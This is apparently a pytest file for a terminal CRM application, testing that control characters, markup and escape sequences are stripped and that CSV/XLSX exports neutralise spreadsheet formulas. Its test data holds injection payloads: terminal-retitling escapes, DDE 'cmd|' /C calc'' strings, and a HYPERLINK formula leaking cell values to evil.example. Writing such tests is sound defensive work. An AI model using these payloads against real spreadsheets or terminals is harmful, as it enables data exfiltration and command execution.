"""Injection (issue 13 item 8, 9): user text is cleaned on the way in and never interpreted on the way out.

A company named ``Markup [/b] Inc`` killed ``leads list`` with a MarkupError, ``[link=…]`` rendered as a
link, an escape sequence in a company retitled the terminal, an export wrote live formulas and any control
character made the XLSX export die.
"""
import csv

import pytest

from cli_helpers import run, run_json
from tui_crm.services import exporting, importing, leads

WIDE = {"COLUMNS": "250"}  # one table row per lead: names are not wrapped over lines
MARKUP = "Markup [/b] Inc"
LINK = "[link=http://evil.example/]click me[/link]"
TITLE = "TitleCo\x1b]0;PWNED\x1b\\ Ltd"
CLEAR = "Clear\x1b[2J Co"


def _old_data(world, lead_id, **values):
    """Values written straight to the table, as a database from before the inputs were cleaned holds them."""
    from tui_crm.store.models import Lead

    Lead.update(**values).where(Lead.id == lead_id).execute()


# ------------------------------------------------------------------ on the way in
def test_control_characters_are_dropped_on_the_way_in_tab_and_newline_kept(world):
    v = world.lead("rep_a1", company=TITLE, contact_name="Bell\x07 Wang", need="two\nlines\tand\r\n a tab",
                   remarks="\x9b31mred\u202egnp.exe")
    got = leads.get(world.as_("rep_a1"), v.id)
    assert got.company == "TitleCo]0;PWNED\\ Ltd"
    assert got.contact_name == "Bell Wang"
    assert got.need == "two\nlines\tand\n a tab"
    assert got.remarks == "31mredgnp.exe"  # C1 CSI and the right-to-left override are gone
    edited = leads.update_lead(world.as_("rep_a1"), v.id, {"company": CLEAR})
    assert edited.company == "Clear[2J Co"


def test_import_drops_control_characters_and_refuses_over_long_values(world, tmp_path):
    f = tmp_path / "in.csv"
    f.write_text("company,contact_name,phone,need\n"
                 f"\"{TITLE}\",Wang,13911110000,servers\n"
                 f"{'L' * 201},Li,13911110001,servers\n", encoding="utf-8")
    res = importing.run_import(world.as_("rep_a1"), str(f))
    assert res.new == 1 and res.refused == 1
    assert res.refusals[0].line == 3 and res.refusals[0].reason == "longer than 200 characters"
    (v,) = leads.list_leads(world.as_("rep_a1"))
    assert v.company == "TitleCo]0;PWNED\\ Ltd"


# ------------------------------------------------------------------ on the way out: the command line
def _cli_world(url):
    run("users", "add", "boss", "--name", "Boss", "--role", "admin", db=url, check=0)
    codes = []
    for company, contact, phone in ((MARKUP, LINK, "13912340001"), ("Plain", "x", "13912340002"),
                                    ("Plain 2", "y", "13912340003")):
        codes.append(run("leads", "add", "--company", company, "--contact", contact, "--phone", phone,
                         "--source", "expo", "--need", "n", db=url, check=0).stdout.strip())
    from tui_crm.services.context import open_session
    from tui_crm.store.models import Lead

    ctx = open_session(url, "boss")  # a database from before: escapes stored as they were typed
    Lead.update(company=TITLE).where(Lead.code == codes[1]).execute()
    Lead.update(company=CLEAR, contact_name="\x1b[31mred\x1b[0m").where(Lead.code == codes[2]).execute()
    Lead.update(industry="[/b] tools", lost_reason="[link=http://evil.example/]x").where(
        Lead.code == codes[0]).execute()
    ctx.close()
    return codes


def test_cli_tables_print_brackets_as_text_and_no_escape_sequences(sqlite_url):
    codes = _cli_world(sqlite_url)
    out = run("leads", "list", db=sqlite_url, env=WIDE, check=0)
    assert "Traceback" not in out.stderr and "\x1b" not in out.stdout
    assert MARKUP in out.stdout and LINK in out.stdout
    assert "TitleCo]0;PWNED\\ Ltd" in out.stdout and "Clear[2J Co" in out.stdout
    for code in codes:
        shown = run("leads", "show", code, db=sqlite_url, env=WIDE, check=0)
        assert "\x1b" not in shown.stdout and "Traceback" not in shown.stderr
    shown = run("leads", "show", codes[0], db=sqlite_url, env=WIDE, check=0).stdout
    assert MARKUP in shown and LINK in shown
    listed = run("leads", "list", "--format", "csv", db=sqlite_url, check=0).stdout
    assert "\x1b" not in listed
    report = run("report", db=sqlite_url, env=WIDE, check=0).stdout
    assert "[/b] tools" in report and "\x1b" not in report
    data = run_json("leads", "list", "--format", "json", db=sqlite_url)
    assert {d["company"] for d in data} == {MARKUP, "TitleCo]0;PWNED\\ Ltd", "Clear[2J Co"}


def test_an_error_quoting_a_stored_value_prints_no_escape_sequence(sqlite_url):
    _cli_world(sqlite_url)
    from tui_crm.services.context import open_session
    from tui_crm.store.models import User

    ctx = open_session(sqlite_url, "boss")
    User.update(name="Evil\x1b]0;PWNED\x07").where(User.login == "boss").execute()
    ctx.close()
    out = run("users", "list", db=sqlite_url, env=WIDE, check=0)
    assert "\x1b" not in out.stdout and "Evil]0;PWNED" in out.stdout


# ------------------------------------------------------------------ exports
FORMULAS = {"company": '=HYPERLINK("http://evil.example/?leak="&E2&F2,"click")',
            "contact_name": "+cmd|' /C calc'!A0", "need": "-2+3+cmd|' /C calc'!A0", "remarks": "@SUM(1+1)*cmd"}


def _formula_lead(world):
    v = world.lead("rep_a1", **FORMULAS, phone="13912345678")
    _old_data(world, v.id, industry="bell\x07 and \x1b[2J", title="tab\tfirst")
    _old_data(world, v.id, region="\tleading tab")
    return v


def test_csv_export_quotes_what_a_spreadsheet_would_run_and_reads_back_the_same(world, tmp_path):
    _formula_lead(world)
    path = str(tmp_path / "x.csv")
    exporting.export(world.as_("rep_a1"), path)
    with open(path, encoding="utf-8-sig") as fh:
        (row,) = list(csv.DictReader(fh))
    for field, value in FORMULAS.items():
        assert row[field] == "'" + value
    assert row["phone"] == "'+8613912345678"
    assert row["region"] == "'\tleading tab"
    assert row["industry"] == "bell and [2J"
    for value in row.values():
        assert value[:1] not in ("=", "+", "-", "@", "\t", "\r")
    from tui_crm.services import admin
    from tui_crm.services.context import open_session

    other = open_session(str(tmp_path / "back.db"))
    admin.add_user(other, "boss", "Boss", "admin")
    other.act_as("boss")
    res = importing.run_import(other, path, importing.ImportOptions(create_owners=True))
    assert res.new == 1, res.refusals
    (back,) = leads.list_leads(other, reveal=True)
    for field, value in FORMULAS.items():
        assert getattr(back, field) == value
    assert back.phone == "+8613912345678"
    other.close()


def test_xlsx_export_writes_no_formula_and_survives_control_characters(world, tmp_path):
    _formula_lead(world)
    path = str(tmp_path / "x.xlsx")
    exporting.export(world.as_("rep_a1"), path)  # died with IllegalCharacterError
    from openpyxl import load_workbook

    ws = load_workbook(path)["leads"]
    head = [c.value for c in ws[1]]
    cells = {h: c for h, c in zip(head, ws[2])}
    for field, value in FORMULAS.items():
        assert cells[field].data_type == "s" and cells[field].value == "'" + value
    assert cells["industry"].value == "bell and [2J"
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
